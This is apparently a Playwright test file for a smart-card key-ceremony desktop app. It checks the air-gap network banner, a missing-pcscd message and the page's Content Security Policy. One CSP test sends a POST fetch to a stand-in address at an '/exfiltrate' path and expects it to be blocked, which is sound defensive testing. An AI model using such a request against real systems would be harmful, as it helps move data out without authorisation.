// The shell around the wizard: the bridge works, the air-gap banner shows
// when main reports a network interface up, the page's CSP refuses any
// request that is not for the app's own files, and a workstation without
// pcscd is told so where a card is needed.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { emu } from '../support/cli.js';
import { test, expect } from './fixtures.js';

test('the renderer loads through the bridge and reads the ceremony state', async ({ app, bridge }) => {
  await expect(app.getByRole('heading', { level: 1 })).toContainText('Key Ceremony');
  await expect.poll(() => bridge.calls.some((c) => c.channel === 'ceremony:state' && c.ok)).toBe(true);
  await expect(app.getByRole('alert')).toHaveCount(0); // no network banner on an air-gapped machine
});

test.describe('the air gap in the page', () => {
  test.use({ expectedConsoleErrors: /Content Security Policy/ });
  test('the page cannot reach anything but its own files', async ({ app }) => {
    const outcome = await app.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let fetched = 'no';
      try {
        await fetch('http://198.51.100.7/exfiltrate', { method: 'POST', body: 'x' });
        fetched = 'yes';
      } catch {
        fetched = 'refused';
      }
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toContain('connect-src');
  });
});

test.describe('on a workstation with a network interface up', () => {
  test.use({ networkUp: ['eth0'] });
  test('a banner warns that the workstation is connected to a network', async ({ app }) => {
    const banner = app.getByRole('alert').filter({ hasText: 'This workstation is connected to a network' });
    await expect(banner).toBeVisible();
    await expect(banner).toContainText('eth0');
  });
});

test.describe('on a workstation where the smart-card service is not running', () => {
  test.use({ cardService: 'absent' });
  test('a card step says so, and names the fix', async ({ app, bridge, workDir }) => {
    expect(emu(workDir, 'init', '--state', join(workDir, 'units'), '--units', '2').code).toBe(0);
    expect(emu(workDir, 'transport', '--state', join(workDir, 'units'), '--out-dir', join(workDir, 't')).code).toBe(0);
    await app.getByRole('button', { name: 'Start a new ceremony' }).click();
    await app.getByLabel('Ceremony name', { exact: true }).fill('No pcscd');
    await app.getByLabel('Key name', { exact: true }).fill('k');
    await app.getByLabel('Operator', { exact: true }).fill('Olga');
    for (const [i, n] of ['Ann', 'Ben'].entries()) await app.getByLabel(`Admin ${i + 1} name`, { exact: true }).fill(n);
    for (const [i, n] of ['Cat', 'Dan', 'Eve'].entries())
      await app.getByLabel(`Custodian ${i + 1} name`, { exact: true }).fill(n);
    await app.getByLabel('Witness 1 name', { exact: true }).fill('Wim');
    await app.getByRole('button', { name: 'Start the ceremony' }).click();
    // A bundle goes to every unit of the instance: both transport files are loaded and confirmed.
    for (const [i, file] of readdirSync(join(workDir, 't')).entries()) {
      bridge.dialogs.answer('openFile', join(workDir, 't', file));
      await app.getByRole('button', { name: 'Load transport file…' }).click();
      await app.getByRole('checkbox').nth(i).check();
    }
    await app.getByRole('button', { name: 'Continue' }).click();
    await app.getByRole('button', { name: 'I am Ann' }).click();
    await expect(app.getByText('The smart-card service is not running.')).toBeVisible();
    await expect(app.getByText(/systemctl start pcscd/)).toBeVisible();
  });
});
